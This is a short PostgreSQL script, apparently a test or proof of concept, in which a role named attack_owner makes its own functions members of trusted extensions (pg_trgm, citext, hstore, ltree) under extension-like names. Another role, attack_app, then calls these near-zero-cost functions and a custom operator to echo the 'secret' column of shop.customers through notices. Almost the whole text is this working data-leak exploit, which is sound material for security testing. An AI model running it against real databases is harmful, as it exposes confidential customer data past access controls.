-- as: superuser
-- Whoever owns a trusted extension makes a function of his own its member, by a name that it might have.
SELECT format('GRANT CREATE ON DATABASE %I TO attack_owner', current_database()) \gexec
SET ROLE attack_owner;
CREATE EXTENSION pg_trgm SCHEMA play;
CREATE EXTENSION citext SCHEMA play;
CREATE EXTENSION hstore SCHEMA play;
CREATE EXTENSION ltree SCHEMA play;
CREATE SCHEMA own;
CREATE FUNCTION pg_temp.plant(name text, extension text) RETURNS void LANGUAGE plpgsql AS $$BEGIN
	EXECUTE format('CREATE FUNCTION own.%s(text, text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE COST 0.0000001 AS %L', name, 'BEGIN RAISE NOTICE ''told %'', $1; RETURN true; END');
	EXECUTE format('ALTER EXTENSION %s ADD FUNCTION own.%s(text, text)', extension, name); END$$;
SELECT pg_temp.plant('similarity_op', 'pg_trgm'), pg_temp.plant('similarity', 'pg_trgm'), pg_temp.plant('texticlike', 'citext'), pg_temp.plant('citext_eq', 'citext'),
	pg_temp.plant('exist', 'hstore'), pg_temp.plant('hs_contains', 'hstore'), pg_temp.plant('ltree_isparent', 'ltree');
CREATE OPERATOR own.% (FUNCTION = own.similarity_op, LEFTARG = text, RIGHTARG = text, RESTRICT = eqsel);
GRANT USAGE ON SCHEMA own TO attack_app;
SET ROLE attack_app;
SELECT id FROM shop.customers WHERE own.similarity_op(secret, 'x') AND own.similarity(name, 'x') AND own.citext_eq(name, 'x');
SELECT id FROM shop.customers WHERE own.texticlike(secret, 'x') AND own.exist(secret, 'x') AND own.hs_contains(secret, 'x') AND own.ltree_isparent(secret, 'x');
SELECT id FROM shop.customers WHERE secret OPERATOR(own.%) 'x';
EXPLAIN (COSTS off) SELECT id FROM shop.customers WHERE secret OPERATOR(own.%) 'x';
